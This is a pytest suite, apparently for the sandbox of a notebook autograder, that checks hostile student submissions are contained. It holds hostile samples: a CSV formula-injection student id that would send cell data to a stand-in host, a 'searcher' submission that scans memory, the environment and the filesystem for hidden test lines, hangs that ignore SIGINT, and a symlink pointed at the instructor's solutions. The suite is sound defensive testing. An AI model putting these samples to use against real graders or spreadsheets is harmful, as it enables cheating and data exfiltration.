"""Does a hostile submission gain nothing, harm nothing, and leave the rest of the class alone?"""
import csv
import hashlib
import json
import os
import pathlib
import re
import shutil
import socket
import subprocess
import sysconfig
import sys
import threading
import time

import pytest

from autograder import csvsafe, sandbox, selftest
from autograder.course import max_score
from autograder.paths import ASSIGNMENTS, REPO

A = "01_conv_as_matrix"
ATTACKS = sorted((pathlib.Path(__file__).parent / "attacks").glob("*.py"))
HONEST = ("honest_one", "honest_two", "honest_three")
HANG_EXERCISE = {"03_conv_autoencoder": "train_autoencoder", "05_vae": "train_step"}
HANGING = ["stubborn-01", "cell-hang-01"] + [f"hang-{a[:2]}" for a in ASSIGNMENTS]
CASES = selftest.cases(A)  # correct, wrong and forging students of notebook 01, each with the score it must get
pytestmark = [
    pytest.mark.slow, pytest.mark.xdist_group("sandbox"),
    # without namespaces the attacks would run as the TA's own user: the kill and fork attacks would
    # hit the TA's processes, so they run only where the grader can isolate them (CI runs as root)
    pytest.mark.skipif(not sandbox.capabilities()["namespaces"] or not sandbox.capabilities()["cgroups"],
                       reason="needs root and namespaces to contain the attacks safely"),
]


def hang_exercise(assignment: str) -> str:
    return HANG_EXERCISE.get(assignment, list(selftest.solution_sources(assignment))[-1])


def _put_hanging(cls: pathlib.Path) -> None:
    """Students whose exercise never returns (one per notebook), ignores the interrupt, or whose cell never ends."""
    def put(sid, assignment, nb):
        (cls / sid).mkdir(parents=True, exist_ok=True)
        (cls / sid / f"{assignment}.ipynb").write_text(json.dumps(nb))

    for a in ASSIGNMENTS:
        name = hang_exercise(a)
        put(f"hang-{a[:2]}", a, selftest.build_submission(a, {name: (
            f"def {name}(*args, **kwargs):\n    while True:\n        pass\n")}))
    put("stubborn-01", A, selftest.build_submission(A, {"conv2d_as_matmul": (
        "import signal\n\ndef conv2d_as_matmul(*args, **kwargs):\n"
        "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    while True:\n        pass\n")}))
    put("cell-hang-01", A, selftest.build_submission(A, {"conv2d_as_matmul": "while True:\n    pass\n"}))


def _attack_notebook(path: pathlib.Path, port: int) -> dict:
    """The reference notebook with the attack run first in the first exercise cell.

    When the attack reports success (`BREACHED`), the exercise's function is
    deleted, so a breach shows as lost points.
    """
    case = selftest.load_case(path)
    name, code = next(iter(selftest.solution_sources(A).items()))
    attack = case.overrides["attack"].replace("ATTACK_PORT", str(port))
    cell = f"{attack}\n{code}\nif globals().get('BREACHED'):\n    del {name}\n"
    return selftest.build_submission(A, {name: cell})


SECRET = "s3cret-grader-token-1217"
SHM_KEY = 0xAE1217


def _hidden_line_hashes(assignment: str) -> set[str]:
    return {hashlib.sha256(line.encode()).hexdigest() for line in selftest.hidden_lines(assignment)}


def searcher(assignment: str) -> dict:
    """A student whose functions, each time a test calls them, search everything they can reach for hidden test
    lines (by hash): the call stack, every object the garbage collector knows, the environment and the readable
    files. The last exercise reports what was found in its error message (the only way out during a test)."""
    names = list(selftest.solution_sources(assignment))
    own = "return _aekit_search_report()  # a line of the student's own: the control the search must find"
    hashes = sorted(_hidden_line_hashes(assignment) | {hashlib.sha256(own.strip().encode()).hexdigest()})
    control = hashlib.sha256(own.strip().encode()).hexdigest()
    search = f"""import gc as _gc, hashlib as _hl, os as _os, sys as _sys, types as _types
_WANTED = set({hashes!r})
_CONTROL = {control!r}
_SEEN, _FOUND, _FILES, _SEEN_NAMES = set(), set(), [], set()


def _aekit_text(text):
    for line in str(text).splitlines():
        line = line.strip()
        if len(line) > 12:
            h = _hl.sha256(line.encode(errors="replace")).hexdigest()
            _SEEN.add(h)
            if h in _WANTED:
                _FOUND.add(h)


def _aekit_value(v, depth=0):
    if isinstance(v, (str, bytes)):
        _aekit_text(v if isinstance(v, str) else v.decode(errors="replace"))
    elif isinstance(v, _types.CodeType) and depth < 3:
        for c in v.co_consts:
            _aekit_value(c, depth + 1)


def _aekit_search(full):
    if not full:  # every call: the stack and what it holds; the first test call and the last exercise's: every object
        _aekit_frames()
        return
    for o in _gc.get_objects():
        try:
            items = o.values() if isinstance(o, dict) else o if isinstance(o, (list, tuple, set)) else ()
            for v in items:
                _aekit_value(v)
            _aekit_value(o)
        except Exception:
            pass
    _aekit_frames()
    for v in _os.environ.values():
        _aekit_text(v)
    if not _FILES:
        _FILES.append(1)
        skip = {{"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/etc", "/bin", "/sbin", _sys.prefix,
                 _sys.base_prefix}}  # the system and the Python installation: packages, not the course's files
        for d, dirs, files in _os.walk("/"):
            dirs[:] = [x for x in dirs if _os.path.join(d, x) not in skip]
            for f in files:
                p = _os.path.join(d, f)
                try:
                    if _os.path.getsize(p) < 4 * 2**20 and not p.endswith((".so", ".pyc", ".keras", ".npz")):
                        _aekit_text(open(p, encoding="utf-8", errors="replace").read())
                except OSError:
                    pass


def _aekit_frames():
    for frame in _sys._current_frames().values():
        while frame is not None:
            _aekit_value(frame.f_code)
            for v in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                try:
                    _aekit_value(v)
                except Exception:
                    pass
            frame = frame.f_back


def _aekit_search_report():
    found = sorted(h[:16] for h in _FOUND - {{_CONTROL}})
    return (f"SEARCH found={{len(found)}} control={{int(_CONTROL in _FOUND)}} lines={{len(_SEEN)}} "
            f"hashes={{','.join(found)}}.")
"""
    reference = selftest.solution_sources(assignment)
    overrides = {}
    for i, name in enumerate(names):
        code = reference[name].replace(f"def {name}(", f"def _real_{name}(", 1)
        last = i == len(names) - 1
        wrapper = (f"\n\ndef {name}(*args, **kwargs):\n    _aekit_search({last} or not _SEEN_NAMES)\n"
                   f"    _SEEN_NAMES.add({name!r})\n"
                   + (f"    raise RuntimeError(_aekit_search_report())\n    {own}\n" if last
                      else f"    return _real_{name}(*args, **kwargs)\n"))
        overrides[name] = (search if i == 0 else "") + "\n\n" + code + wrapper
    return selftest.build_submission(assignment, overrides)


def _huge_notebook() -> bytes:
    cell = json.dumps({"cell_type": "code", "metadata": {}, "source": "x = 1", "outputs": [], "execution_count": None})
    return ('{"cells": [' + ",".join([cell] * 400_000) + '], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}').encode()


def _real_leftovers(grader_pid: int | None = None) -> dict:
    """What a job could leave behind on the machine: its kernels' processes (the user ids the grader with this
    process id hands out), cgroups, a shared-memory key, files."""
    import psutil

    uids = {sandbox.UID_BASE + (grader_pid * 64 + n) % sandbox.UID_SPAN for n in range(1, 120)} if grader_pid else set()
    procs = []
    for p in psutil.process_iter(["uids", "cmdline"]):
        try:
            if p.info["uids"] and p.info["uids"].real in uids:
                procs.append(p.pid)
        except psutil.Error:
            pass
    cgroups = [str(c) for c in pathlib.Path("/sys/fs/cgroup").glob(f"*/aekit-{grader_pid}-*")] if grader_pid else []
    shm = pathlib.Path("/proc/sysvipc/shm")
    keys = [line.split()[0] for line in shm.read_text().splitlines()[1:]] if shm.exists() else []
    files = [str(p) for d in ("/run/lock", "/var/tmp", "/dev/shm", "/tmp") for p in pathlib.Path(d).glob("aekit-attack-*")]
    return {"processes": procs, "cgroups": cgroups, "shm": [k for k in keys if int(k) == SHM_KEY], "files": files}


@pytest.fixture(scope="module")
def attacked_class(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    port = server.getsockname()[1]
    accepted = []
    server.settimeout(0.5)

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                accepted.append(conn)
            except OSError:
                pass

    stop = threading.Event()
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    cls = root / "class"
    for sid in HONEST:
        (cls / sid).mkdir(parents=True)
        (cls / sid / f"{A}.ipynb").write_text(json.dumps(selftest.build_submission(A)))
    for case in CASES:  # the rest of the class: imagined students with known scores
        (cls / f"case_{case.name}").mkdir(parents=True)
        (cls / f"case_{case.name}" / f"{A}.ipynb").write_text(
            json.dumps(selftest.build_submission(A, case.overrides)))
    for path in ATTACKS:
        (cls / path.stem).mkdir(parents=True)
        (cls / path.stem / f"{A}.ipynb").write_text(json.dumps(_attack_notebook(path, port)))
    for a in ASSIGNMENTS:
        (cls / f"searcher-{a[:2]}").mkdir(parents=True)
        (cls / f"searcher-{a[:2]}" / f"{a}.ipynb").write_text(json.dumps(searcher(a)))
    (cls / "linker").mkdir()  # a notebook folder that is a link to the instructor's answers
    (cls / "linker" / A).symlink_to(REPO / "solutions" / A)
    for sid, nb in (("victor", selftest.build_submission(A)), ("-victor", selftest.build_submission(A, blank=True)),
                    ('=HYPERLINK("x.example?"&A2,"regrade")', selftest.build_submission(A, blank=True))):
        (cls / sid).mkdir()
        (cls / sid / f"{A}.ipynb").write_text(json.dumps(nb))
    (cls / "huge").mkdir()
    (cls / "huge" / f"{A}.ipynb").write_bytes(_huge_notebook())
    _put_hanging(cls)
    before = _real_leftovers()
    out = root / "out"
    env = dict(os.environ, AEKIT_TEST_SECRET=SECRET)
    grader = subprocess.Popen([sys.executable, "-m", "autograder", "grade", str(cls), "--out", str(out),
                               "--timeout", "150", "--call-timeout", "8", "--workers", "3"],
                              cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    stdout, stderr = grader.communicate(timeout=1500)
    proc = subprocess.CompletedProcess(grader.args, grader.returncode, stdout, stderr)
    assert proc.returncode == 0, proc.stderr[-3000:]
    time.sleep(1)
    after = _real_leftovers(grader.pid)
    stop.set()
    thread.join()
    server.close()
    with open(out / "grades.csv", encoding="utf-8") as f:
        rows = {(csvsafe.unsafe_cell(r["student_id"]), r["notebook"]): r for r in csv.DictReader(f)}
    with open(out / "tests.csv", encoding="utf-8") as f:
        tests = list(csv.DictReader(f))
    return proc, {sid: r for (sid, a), r in rows.items() if a == A}, accepted, out, before, after, rows, tests


def test_the_grader_survives_the_whole_class(attacked_class):
    """Does the grader finish with exit 0 and a row for every student?"""
    proc, rows = attacked_class[:2]
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert len(rows) == len(HONEST) + len(CASES) + len(ATTACKS) + len(ASSIGNMENTS) + 5 + len(HANGING)


def test_honest_students_are_graded_as_in_a_clean_run(attacked_class):
    """Are the honest students, graded beside the attackers, given full marks?"""
    rows = attacked_class[1]
    for sid in HONEST:
        assert rows[sid]["status"] == "graded" and float(rows[sid]["score"]) == max_score(A), rows[sid]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_the_rest_of_the_class_gets_exactly_its_scores(attacked_class, case):
    """Does every other student, right, wrong or forging, get exactly the score it gets alone?"""
    from autograder.course import test_cells

    rows = attacked_class[1]
    row = rows[f"case_{case.name}"]
    points = {c.test_id: c.points for c in test_cells(A)}
    want = sum(points.values()) - sum(points[t] for t in case.expect_failed)
    assert row["status"] == "graded" and float(row["score"]) == want, (case.description, row)


@pytest.mark.parametrize("path", ATTACKS, ids=lambda p: p.stem)
def test_attack_is_contained(attacked_class, path):
    """Does the attack get the status it must, and gain (or break) nothing?"""
    rows = attacked_class[1]
    case = selftest.load_case(path)
    values = {}
    exec(compile(path.read_text().split("# %% attack")[0], str(path), "exec"), values)
    row = rows[path.stem]
    expect = values["EXPECT_STATUS"]
    assert row["status"] in (expect if isinstance(expect, tuple) else (expect,)), (case.description, row)
    if values["EXPECT_FULL"]:
        assert float(row["score"]) == max_score(A), f"{case.description}: the attack got through ({row})"
    elif values["EXPECT_FULL"] is False:
        assert float(row["score"]) == 0 or row["status"] == "timeout", row
    # EXPECT_FULL None: any score for the attacker; what matters is the rest of the class


def test_nothing_was_planted_or_connected(attacked_class):
    """Did no attack write into the checkout or reach a localhost server?"""
    accepted = attacked_class[2]
    assert not (REPO / "PWNED").exists()
    assert accepted == [], "a submission connected to a server on the grader's machine"


def _public(line: str) -> bool:
    """Does this line also stand in code every student has: the course's shipped package or the Python
    installation (a generic line such as `for j in range(k):` is no secret)?"""
    roots = [REPO / "aekit", REPO / "autograder", REPO / "data",
             sysconfig.get_paths()["stdlib"], sysconfig.get_paths()["purelib"]]
    return subprocess.run(["grep", "-rqF", "--include=*.py", "--", line, *map(str, roots)]).returncode == 0


@pytest.mark.parametrize("assignment", ASSIGNMENTS)
def test_no_hidden_test_line_reaches_the_students_process(attacked_class, assignment):
    """Searching its stack, every object, the environment and every readable file during every test call, does a
    student find no line of any hidden test (while finding a line of its own, so the search works)? Lines that
    also stand in shipped code (`rng = np.random.default_rng(seed)`) are found there, and are no leak."""
    tests = attacked_class[7]
    name = list(selftest.solution_sources(assignment))[-1]
    reports = [t["message"] for t in tests if t["student_id"] == f"searcher-{assignment[:2]}"
               and t["test_id"].startswith(f"test_{name}") and "SEARCH" in t["message"]]
    assert reports, [t["message"] for t in tests if t["student_id"] == f"searcher-{assignment[:2]}"]
    by_hash = {hashlib.sha256(line.encode()).hexdigest()[:16]: line for line in selftest.hidden_lines(assignment)}
    for report in reports:
        assert "control=1" in report, report
        found = re.search(r"hashes=([0-9a-f,]*)\.", report).group(1)
        leaked = [by_hash[h] for h in found.split(",") if h and not _public(by_hash[h])]
        assert leaked == [], f"hidden test lines reached the student's process: {leaked}"


def test_a_linked_notebook_folder_is_rejected_not_followed(attacked_class):
    """Does a notebook folder that links to the instructor's answers earn nothing and get reported?"""
    proc, rows = attacked_class[:2]
    assert rows["linker"]["status"] == "missing" and float(rows["linker"]["score"]) == 0
    assert "linker" in (attacked_class[3] / "collection_report.csv").read_text()


def test_student_ids_are_kept_exactly_and_never_merge(attacked_class):
    """Are `victor` and `-victor` two students, the honest one with full marks?"""
    rows = attacked_class[1]
    assert float(rows["victor"]["score"]) == max_score(A) and float(rows["-victor"]["score"]) == 0


def test_no_csv_cell_can_start_a_formula(attacked_class):
    """Is every CSV cell that would start a formula neutralised, the attacker's id among them?"""
    out = attacked_class[3]
    seen = 0
    for name in ("grades.csv", "tests.csv", "collection_report.csv"):
        with open(out / name, encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
                    seen += cell.startswith("'=HYPERLINK")
    assert seen >= 2


def test_a_huge_notebook_is_refused_before_it_is_parsed(attacked_class):
    """Is a 400,000-cell notebook refused by its cell count, without parsing it in the grader?"""
    row = attacked_class[1]["huge"]
    assert row["status"] == "invalid" and "cells" in row["detail"], row


def test_no_grader_secret_is_in_a_kernels_memory(attacked_class):
    """Does a kernel that scans its environment, /proc and its own memory find no secret of the grader's?"""
    out = attacked_class[3]
    notebook = (out / "autograded" / "grader_secrets" / A / f"{A}.ipynb").read_text()
    assert "scanned" in notebook and SECRET not in notebook


def test_nothing_of_a_job_outlives_it(attacked_class):
    """After the run, is no kernel process, cgroup, shared-memory segment or left-behind file still there?"""
    before, after = attacked_class[4], attacked_class[5]
    assert after["processes"] == [] and after["shm"] == [] and after["files"] == [] and after["cgroups"] == []


def _tests_of(out: pathlib.Path, sid: str, assignment: str) -> dict:
    with open(out / "tests.csv", encoding="utf-8", newline="") as f:
        return {r["test_id"]: r for r in csv.DictReader(f) if r["student_id"] == sid and r["notebook"] == assignment}


@pytest.mark.parametrize("assignment", ASSIGNMENTS)
def test_an_exercise_that_never_returns_costs_only_itself(attacked_class, assignment):
    """Does a function that never returns lose its own tests, with a message naming it and the limit, and nothing else?"""
    out, rows = attacked_class[3], attacked_class[6]
    name = hang_exercise(assignment)
    tests = _tests_of(out, f"hang-{assignment[:2]}", assignment)
    failed = {t for t, r in tests.items() if float(r["score"]) < float(r["max_score"])}
    assert failed == {t for t in tests if t.startswith(f"test_{name}")}, failed
    assert all("8 s" in tests[t]["message"] and name in tests[t]["message"] for t in failed)
    assert rows[(f"hang-{assignment[:2]}", assignment)]["status"] == "graded"


def test_a_hang_that_ignores_interrupts_is_restarted_and_the_rest_graded(attacked_class):
    """Is a kernel that ignores the interrupt restarted, its cells replayed, and the other exercises graded?"""
    tests = _tests_of(attacked_class[3], "stubborn-01", A)
    failed = {t for t, r in tests.items() if float(r["score"]) < float(r["max_score"])}
    assert failed == {"test_conv2d_as_matmul", "test_conv2d_as_matmul_hidden"}, failed


def test_a_cell_that_never_ends_is_stopped_and_the_rest_graded(attacked_class):
    """Is a student's cell that loops forever stopped at the limit, and the exercise it did not define the only loss?"""
    row = attacked_class[1]["cell-hang-01"]
    tests = _tests_of(attacked_class[3], "cell-hang-01", A)
    failed = {t for t, r in tests.items() if float(r["score"]) < float(r["max_score"])}
    assert row["status"] == "graded" and failed == {"test_conv2d_as_matmul", "test_conv2d_as_matmul_hidden"}, row
    assert "stopped" in row["detail"]

# ---- uid-only isolation: root without namespaces (a container that forbids them) -----------------------

def _copy_checkout(dest: pathlib.Path) -> pathlib.Path:
    """The checkout's tracked files copied to `dest` (whose modes a test may change; never the real checkout's)."""
    files = subprocess.run(["git", "-C", str(REPO), "ls-files"], capture_output=True, text=True, check=True).stdout
    for name in files.splitlines():
        (dest / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(REPO / name, dest / name)
    return dest


def test_without_namespaces_grading_waits_until_solutions_are_private(run_without_namespaces, open_folder, snooper):
    """With namespaces off, does `grade` refuse in one line (exit 2) while solutions/ is readable by others, and
    once it is not (chmod -R go-rwx), grade a student who reads all it can under the course folder, who finds
    nothing of solutions/, runs under a user id of its own and loses no point?"""
    repo = _copy_checkout(open_folder / "course")
    cls = open_folder / "class"
    (cls / "snooper").mkdir(parents=True)
    (cls / "snooper" / f"{A}.ipynb").write_text(json.dumps(snooper(repo)))
    env = dict(os.environ, AEKIT_REPO=str(repo), PYTHONPATH=str(repo))
    grade = [sys.executable, "-m", "autograder", "grade", str(cls), "--out", str(open_folder / "out"),
             "--notebooks", "01", "--workers", "1"]
    refused = run_without_namespaces(grade, env, repo)
    assert refused.returncode == 2 and len(refused.stderr.strip().splitlines()) == 1, refused.stderr
    assert "chmod -R go-rwx" in refused.stderr and not (open_folder / "out").exists()
    subprocess.run(["chmod", "-R", "go-rwx", str(repo / "solutions")], check=True)
    graded = run_without_namespaces(grade, env, repo)
    assert graded.returncode == 0, graded.stderr[-3000:]
    assert "REDUCED isolation (no namespaces)" in graded.stderr
    with open(open_folder / "out" / "grades.csv", encoding="utf-8") as f:
        row = next(csv.DictReader(f))
    assert row["status"] == "graded" and float(row["score"]) == max_score(A), row
